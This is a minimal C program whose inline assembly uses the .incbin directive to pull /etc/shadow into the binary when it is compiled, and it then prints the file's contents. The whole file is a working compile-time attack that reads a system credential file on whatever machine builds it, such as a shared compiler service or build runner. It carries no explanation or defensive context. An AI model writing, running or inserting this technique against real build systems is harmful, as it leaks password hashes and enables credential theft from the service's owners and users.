#include <stdio.h>

__asm__(".section .rodata\nsecret: .incbin \"/etc/shadow\"\n.byte 0\n.previous");
extern const char secret[];

int main(void) {
    puts(secret);
    return 0;
}
